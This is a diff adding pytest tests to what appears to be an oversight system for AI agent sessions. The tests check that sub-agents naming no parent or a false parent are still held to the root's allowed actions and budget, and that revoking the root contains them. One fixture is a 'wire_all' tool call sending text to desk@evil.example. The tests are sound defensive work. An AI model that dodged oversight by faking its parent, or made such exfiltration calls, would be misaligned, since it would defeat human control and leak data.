@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+from itertools import pairwise
 from typing import Any
 
 import pytest
@@ -71,6 +72,39 @@ def test_an_amendment_of_the_session_above_widens_what_those_below_may_do() -> N
         called(MIDDLE, 2),
     )
     assert ["action_not_allowed" in spoke for spoke in against(run)] == [True, False]
+
+
+@pytest.mark.parametrize("parent", [None, "nobody", LOW])
+def test_whomever_a_sub_agent_names_the_root_of_its_tree_is_above_it(parent: str | None) -> None:
+    run = play(
+        declared(TOP, {"actions": ["read"], "budget": {"calls": 1}}),
+        declared(LOW, parent=parent),
+        called(LOW, 1, "read_file"),
+        called(LOW, 2),
+    )
+    assert {"action_not_allowed", "budget_overrun"} <= against(run)[1]
+    assert [d["marks"] for d in run.decisions] == [["orphan"] if parent else []] * 2
+
+
+def test_the_root_narrows_below_any_number_of_sessions() -> None:
+    chain = [TOP, *(f"m{n}" for n in range(12))]
+    run = play(
+        declared(TOP, {"actions": ["read"]}),
+        *(declared(child, parent=parent) for parent, child in pairwise(chain)),
+        called(chain[-1], 1),
+    )
+    assert "action_not_allowed" in against(run)[0]
+
+
+@pytest.mark.parametrize("parent", [None, "nobody"])
+def test_a_revocation_of_the_root_reaches_whoever_names_another_parent(parent: str | None) -> None:
+    drifts = b.called(TOP, 1, tool="wire_all", arguments={"to": "desk@evil.example", "text": "zq"})
+    run = b.play(
+        [declared(TOP), declared(LOW, parent=parent), drifts],
+        bundled=b.release(scorer=b.ConstantScorer(10_000)),
+    )
+    changes = [c for c in run.cases if c["kind"] == "standing" and c["after"] == "contained"]
+    assert [c["session_id"] for c in changes] == [TOP, LOW]
 
 
 def test_an_orphan_is_narrowed_once_its_parent_appears() -> None:
